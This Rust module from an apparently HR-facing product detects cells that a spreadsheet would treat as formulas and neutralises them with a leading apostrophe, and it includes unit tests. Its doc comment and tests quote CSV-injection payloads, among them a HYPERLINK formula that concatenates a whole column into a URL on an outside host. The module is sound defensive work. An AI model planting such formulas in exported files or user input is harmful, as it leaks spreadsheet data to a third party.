//! Text that a spreadsheet would run. Excel, LibreOffice and Google Sheets read a cell that
//! begins with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula,
//! and a formula such as `=HYPERLINK("http://x.jp/"&CONCAT(D:D))` or `=WEBSERVICE(…)` can
//! carry every other cell of the file away (OWASP: CSV injection). Free text that ends up in
//! a file HR opens is refused at input where it can be (`dependent_label: formula`) and
//! neutralised in every CSV the product writes.

use std::borrow::Cow;

/// Whether a spreadsheet would read `text` as a formula.
pub fn starts_formula(text: &str) -> bool {
    matches!(
        text.chars().next(),
        Some('=' | '+' | '-' | '@' | '\t' | '\r')
    )
}

/// `text` as a cell a spreadsheet shows as text: a formula-looking value gets a leading
/// apostrophe (which the spreadsheet hides), anything else is unchanged. Quoting is the CSV
/// writer's job.
pub fn cell(text: &str) -> Cow<'_, str> {
    if starts_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_text_is_not() {
        for f in [
            "=1+1",
            "+81",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            r#"=HYPERLINK("http://x.jp/","x")"#,
        ] {
            assert!(starts_formula(f), "{f:?}");
            assert_eq!(cell(f), format!("'{f}"));
        }
        for t in ["長男", "E0001", "", "a=b", "123456789018"] {
            assert!(!starts_formula(t), "{t:?}");
            assert_eq!(cell(t), t);
        }
    }
}
